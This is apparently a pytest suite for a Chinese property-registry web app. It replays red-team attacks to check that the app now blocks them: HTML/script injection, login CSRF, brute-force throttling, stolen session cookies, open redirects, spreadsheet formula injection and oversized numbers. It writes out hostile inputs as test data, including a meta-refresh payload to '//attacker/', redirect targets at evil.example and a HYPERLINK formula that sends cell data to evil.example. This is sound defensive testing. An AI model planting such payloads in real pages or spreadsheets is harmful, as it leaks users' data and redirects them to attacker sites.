"""The red team's cases, replayed (issue 19): each test is an attack or a fault that once worked,
and what a user or an attacker sees now. On both backends."""
from __future__ import annotations

import re

import requests

from registry.core import signin, users
from registry.core.models import LoginThrottle, User

from .webhelpers import PASSWORD, csrf_of, login_as, post, race


def _fresh_login(client, name, password, address="127.0.0.1"):
    env = {"REMOTE_ADDR": address}
    token = csrf_of(client.get("/login", environ_base=env).get_data(as_text=True))
    return client.post("/login", data={"username": name, "password": password, "csrf_token": token},
                       environ_base=env)


# 2. HTML injection ---------------------------------------------------------------------------

def test_a_plot_code_cannot_close_the_land_pages_script_block(manager, world, session):
    from registry.core.enums import PlotStatus
    from . import factories as f
    evil = "</script><meta http-equiv=refresh content=0;url=//attacker/>"
    f.plot(session, world.park_a, status=PlotStatus.UNSUPPLIED).code = evil
    session.commit()
    page = manager.get(f"/parks/{world.park_a.id}/land").get_data(as_text=True)
    assert "<meta http-equiv=refresh" not in page and "</script><meta" not in page
    assert "\\u003c/script\\u003e" in page  # the code is there, escaped inside the JSON


def test_a_format_parameter_is_never_echoed_as_a_page(manager, world):
    for url in (f"/parks/{world.park_a.id}/reports/rent-roll", f"/parks/{world.park_a.id}/land",
                f"/parks/{world.park_a.id}/activity"):
        resp = manager.get(url, query_string={"format": "<meta http-equiv=refresh content=0;url=//x/>"})
        assert resp.status_code == 400
        assert "http-equiv=refresh" not in resp.get_data(as_text=True) and "xlsx" in resp.get_data(as_text=True)


# 3. Login CSRF -------------------------------------------------------------------------------

def test_a_login_posted_without_cookie_or_token_is_refused(client, world):
    resp = client.post("/login", data={"username": "admin", "password": PASSWORD})
    assert resp.status_code == 400 and "CSRF" in resp.get_data(as_text=True)
    resp = client.post("/login", data={"username": "admin", "password": PASSWORD, "csrf_token": ""})
    assert resp.status_code == 400
    assert "admin（" not in client.get("/").get_data(as_text=True)


def test_an_empty_token_never_matches_an_empty_session_token(client, world):
    login_as(client, world.admin)
    with client.session_transaction() as s:
        s["_csrf"] = ""
    assert client.post(f"/buildings/{world.building_a.id}/verify", data={"csrf_token": ""}).status_code == 400


# 4. Login throttling -------------------------------------------------------------------------

def test_thirty_parallel_guesses_are_checked_at_most_five_times_under_gunicorn(gunicorn_server, world, session):
    clients = [requests.Session() for _ in range(30)]
    tokens = [csrf_of(c.get(f"{gunicorn_server}/login").text) for c in clients]

    def send(i, c):
        return c.post(f"{gunicorn_server}/login", allow_redirects=False,
                      data={"username": "admin", "password": f"wrong-{i}", "csrf_token": tokens[i]}).text

    answers = race(clients, send)
    assert all(signin.WRONG in a or signin.LOCKED in a for a in answers), [a[-600:] for a in answers
                                                                           if signin.WRONG not in a and signin.LOCKED not in a]
    assert sum(signin.WRONG in a for a in answers) == signin.PER_NAME.free
    assert sum(signin.LOCKED in a for a in answers) == 30 - signin.PER_NAME.free
    last = requests.Session()
    token = csrf_of(last.get(f"{gunicorn_server}/login").text)
    resp = last.post(f"{gunicorn_server}/login", allow_redirects=False,
                     data={"username": "admin", "password": PASSWORD, "csrf_token": token})
    assert resp.status_code == 401 and signin.LOCKED in resp.text  # the right one, sent last, waits too
    session.expire_all()
    assert session.get(LoginThrottle, "name:admin@127.0.0.1").failures == signin.PER_NAME.free


def test_an_unknown_name_and_a_locked_account_get_the_same_answer_and_the_same_work(client, world, monkeypatch):
    for name in ("admin", "nobody-here"):
        for _ in range(signin.PER_NAME.free):
            _fresh_login(client, name, "wrong")
    checks = []
    real = users.verify_password
    monkeypatch.setattr(users, "verify_password", lambda stored, pw: checks.append(1) or real(stored, pw))

    def answer(name):
        checks.clear()
        resp = _fresh_login(client, name, "wrong")
        body = re.sub(r'name="csrf_token" value="[^"]+"', "", resp.get_data(as_text=True))
        return resp.status_code, re.sub(r"\d\d:\d\d:\d\d", "", body), len(checks)

    assert answer("admin") == answer("nobody-here")
    status, body, work = answer("admin")
    assert status == 401 and signin.LOCKED in body and work == 1


def test_an_attacker_cannot_lock_the_administrator_out(client, world):
    for _ in range(12):
        _fresh_login(client, "admin", "wrong", address="10.9.9.9")
    assert signin.LOCKED in _fresh_login(client, "admin", PASSWORD, address="10.9.9.9").get_data(as_text=True)
    assert _fresh_login(client, "admin", PASSWORD, address="10.1.1.1").status_code == 302


def test_spraying_many_names_from_one_address_is_slowed_down(client, world):
    for i in range(signin.PER_ADDRESS.free):
        _fresh_login(client, f"user{i}", "wrong", address="10.7.7.7")
    resp = _fresh_login(client, "admin", PASSWORD, address="10.7.7.7")
    assert resp.status_code == 401 and signin.LOCKED in resp.get_data(as_text=True)


# 10. Sessions, passwords, redirects, paths ----------------------------------------------------

def test_a_cookie_stops_working_at_sign_out(client, world):
    assert _fresh_login(client, "mgr_a", PASSWORD).status_code == 302
    stolen = client.get_cookie("session").value
    token = csrf_of(client.get(f"/parks/{world.park_a.id}").get_data(as_text=True))
    client.post("/logout", data={"csrf_token": token})
    thief = client.application.test_client()
    thief.set_cookie("session", stolen)
    resp = thief.get(f"/parks/{world.park_a.id}")
    assert resp.status_code == 302 and "/login" in resp.headers["Location"]


def test_deactivating_a_user_ends_their_sessions(client, world, session):
    assert _fresh_login(client, "mgr_a", PASSWORD).status_code == 302
    admin = client.application.test_client()
    login_as(admin, world.admin)
    assert post(admin, f"/admin/users/{world.manager_a}/active", {"active": "0"}).status_code == 302
    assert post(admin, f"/admin/users/{world.manager_a}/active", {"active": "1"}).status_code == 302
    resp = client.get(f"/parks/{world.park_a.id}")
    assert resp.status_code == 302 and "/login" in resp.headers["Location"]


def test_weak_passwords_are_refused_with_the_reason(client, world, session):
    login_as(client, world.admin)
    cases = {"12345678": "至少 12 个字符", "password1234": "常见", "aaaaaaaaaaaaaa": "常见",
             "zhangwei-secret-2026": "用户名"}
    for password, reason in cases.items():
        resp = post(client, "/admin/users", {"username": "zhangwei", "password": password, "role": "viewer"})
        page = resp.get_data(as_text=True)
        assert resp.status_code == 400 and reason in page, password
        assert 'value="zhangwei"' in page  # the form keeps what was typed
    session.expire_all()
    assert session.query(User).filter_by(username="zhangwei").count() == 0
    assert post(client, "/admin/users", {"username": "zhangwei", "password": "tea kettle on the hill",
                                         "role": "viewer"}).status_code == 302


def test_back_and_next_lead_only_to_this_site(client, world):
    for target in ("//evil.example/", "/\\evil.example/", "https://evil.example/", "/\t/evil.example/"):
        env = {"REMOTE_ADDR": "10.3.3.3"}
        token = csrf_of(client.get("/login", environ_base=env).get_data(as_text=True))
        resp = client.post("/login", query_string={"next": target}, environ_base=env,
                           data={"username": "admin", "password": PASSWORD, "csrf_token": token})
        assert resp.headers["Location"] == "/", target
        login_as(client, world.manager_a)
        resp = post(client, f"/buildings/{world.building_a.id}/verify", {"back": target})
        assert not resp.headers["Location"].startswith(("//", "/\\", "http")), target


# 5. Formula injection ------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"click")'


def _formulas(data: bytes) -> list[str]:
    """Every cell of every sheet that a spreadsheet would evaluate."""
    import io
    from openpyxl import load_workbook
    book = load_workbook(io.BytesIO(data))
    return [f"{ws.title}!{c.coordinate}={c.value}" for ws in book.worksheets for row in ws.iter_rows()
            for c in row if c.data_type == "f"]


def test_no_title_header_or_cell_of_any_workbook_becomes_a_formula(client, world, session):
    from registry.core.models import Enterprise
    world.park_a.name = FORMULA
    world.lease_a.contract_no = "+1+2"
    session.get(Enterprise, world.lease_a.enterprise_id).name = "@SUM(A1)"
    session.commit()
    login_as(client, world.admin)
    p = world.park_a.id
    urls = [f"/parks/{p}/reports/{k}?format=xlsx" for k in ("rent-roll", "expiry", "followup", "vacancy")]
    urls += [f"/parks/{p}/land?format=xlsx", f"/parks/{p}/activity?format=xlsx", f"/parks/{p}/excel/template",
             "/export/parks.xlsx", "/export/units.xlsx"]
    for url in urls:
        resp = client.get(url)
        assert resp.status_code == 200, url
        assert _formulas(resp.data) == [], url
        text = "\n".join(str(c.value) for ws in __import__("openpyxl").load_workbook(
            __import__("io").BytesIO(resp.data)).worksheets for row in ws.iter_rows() for c in row if c.value)
        if "reports" in url or "template" in url:
            assert "HYPERLINK" in text, url  # the name is there, as words


def test_the_evaluation_workbook_and_template_hold_no_formulas(session):
    from registry.evaluation import filemode, publish, runs
    from .test_evaluation_outputs import build_bureau
    bureau = build_bureau(session)
    bureau["firms"]["甲一精密"].name = FORMULA
    bureau["parks"]["甲园区"].name = "-2+3"
    session.commit()
    run = runs.create_run(session, ruleset="huaian-2024", year=2025, actor="bureau")
    session.commit()
    assert _formulas(publish.workbook(session, run)) == []
    assert _formulas(filemode.template()) == []


# 6. Non-finite numbers, sizes and lengths ------------------------------------------------------

def test_infinite_or_huge_numbers_are_refused_naming_the_field(manager, world, session):
    from registry.core.models import Building, Unit
    from .factories import square
    unit = world.building_a.units[5]
    for area in ("inf", "1e309", "nan", "-inf"):
        resp = post(manager, f"/units/{unit.id}/edit", {"floor_level": "3", "code": unit.code,
                                                          "leasable_area_m2": area, "version": unit.version})
        assert resp.status_code == 400, area
        assert f'value="{area}"' in resp.get_data(as_text=True)  # the form keeps what was typed
    b = world.building_a
    for field, value, words in (("floors_above", "100000", "地上层数"), ("gfa_m2", "1e309", "建筑面积"),
                                ("gfa_m2", "inf", "建筑面积")):
        form = {"code": b.code, "type": "standard_factory", "status": "completed", "floors_above": "3",
                "gfa_m2": "6000", "footprint": square(0.01), "version": b.version, field: value}
        resp = post(manager, f"/buildings/{b.id}/edit", form)
        assert resp.status_code == 400 and words in resp.get_data(as_text=True), (field, value)
    session.expire_all()
    assert session.get(Unit, unit.id).leasable_area_m2 == 1000 and session.get(Building, b.id).floors_above == 3
    page = manager.get(f"/parks/{world.park_a.id}").get_data(as_text=True)
    assert "inf ㎡" not in page and "nan%" not in page


def test_a_lease_with_a_trillion_months_free_or_an_infinite_relief_is_refused(manager, world, session):
    from registry.core.models import Lease
    unit = world.building_a.units[2]
    resp = post(manager, f"/buildings/{world.building_a.id}/leases",
                {"unit_id": [unit.id], "uscc": "91610902MA6YUCQX0Y", "name": "万年免租有限公司",
                 "start_date": "2026-01-01", "end_date": "2026-12-31", "rent": "12", "rent_free_months": "1e12"})
    assert resp.status_code == 400
    resp = post(manager, f"/buildings/{world.building_a.id}/leases",
                {"unit_id": [unit.id], "uscc": "91610902MA6YUCQX0Y", "name": "万年免租有限公司",
                 "start_date": "2026-01-01", "end_date": "2026-12-31", "rent": "12", "rent_free_months": "1000"})
    assert resp.status_code == 400 and "免租期" in resp.get_data(as_text=True)
    resp = post(manager, f"/leases/{world.lease_a.id}/relief",
                {"start_date": "2026-01-01", "end_date": "2026-01-31", "amount": "1e309", "reason": "疫情"})
    assert resp.status_code == 400
    session.expire_all()
    assert session.query(Lease).count() == 2


def test_text_longer_than_its_column_is_refused_on_both_backends(manager, world, session):
    from registry.core.models import Enterprise
    unit = world.building_a.units[2]
    resp = post(manager, f"/buildings/{world.building_a.id}/leases",
                {"unit_id": [unit.id], "uscc": "91610902MA6YUCQX0Y", "name": "长名有限公司",
                 "start_date": "2026-01-01", "end_date": "2026-12-31", "rent": "12",
                 "contact_name": "张" * 300})
    assert resp.status_code == 400 and "联系人有 300 个字符" in resp.get_data(as_text=True)
    session.expire_all()
    assert session.query(Enterprise).filter_by(uscc="91610902MA6YUCQX0Y").count() == 0
